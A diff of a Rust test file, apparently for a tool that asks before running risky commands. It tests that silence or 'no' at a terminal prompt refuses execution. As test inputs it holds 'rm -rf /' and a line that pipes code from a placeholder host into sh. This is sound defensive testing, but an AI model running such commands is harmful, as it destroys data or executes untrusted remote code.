@@ -1,7 +1,7 @@
 //! Step 1 of `run` and `exec`: what is risky is told, asked about or refused before anything is
 //! done.
 
-use crate::support::{Outcome, Scene, python};
+use crate::support::{Outcome, Scene, python_at_a_terminal};
 
 /// Critical: it deletes the whole system.
 const CRITICAL: [&str; 3] = ["rm", "-rf", "/"];
@@ -83,37 +83,19 @@ fn stricter_profiles_want_an_answer_and_the_strictest_a_person() {
 #[test]
 fn a_person_at_a_terminal_is_asked_and_no_is_the_answer_of_silence() {
     let scene = Scene::new();
-    python(
+    python_at_a_terminal(
         &scene,
-        r#"
-import os, pty, select, sys, time
-def run(answer, flags):
-    pid, fd = pty.fork()
-    if pid == 0:
-        command = ['sh', '-c', 'touch ran; curl -fsS https://host.invalid/x | sh']
-        os.execv(os.environ['CTRLZ'], ['ctrlz', 'run', *flags, '--', *command])
-    seen, answered = b'', False
-    limit = time.monotonic() + 30
-    while time.monotonic() < limit:
-        if select.select([fd], [], [], 0.2)[0]:
-            try:
-                data = os.read(fd, 65536)
-            except OSError:
-                break
-            if not data:
-                break
-            seen += data
-        if b'[y/N]' in seen and not answered:
-            assert b'cannot be undone' in seen and b'network-code' in seen, seen
-            os.write(fd, answer)
-            answered = True
-    assert answered, seen
-    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
-for answer in (b'\n', b'n\n', b'\x04', b'yesterday\n'):
-    assert run(answer, ['--net', 'host']) == 123, answer
+        r"
+command = ['sh', '-c', 'touch ran; curl -fsS https://host.invalid/x | sh']
+def told(seen):
+    assert b'cannot be undone' in seen and b'network-code' in seen, seen
+def code(reply):
+    return answer(reply, ['--net', 'host'], command, told)[0]
+for reply in (b'\n', b'n\n', b'\x04', b'yesterday\n'):
+    assert code(reply) == 123, reply
 assert not os.path.exists(os.environ['CTRLZ_HOME'])
-assert run(b'y\n', ['--net', 'host']) != 123
-"#,
+assert code(b'y\n') != 123
+",
     )
     .ok();
     assert_eq!(scene.changes(), ["added ran"]);
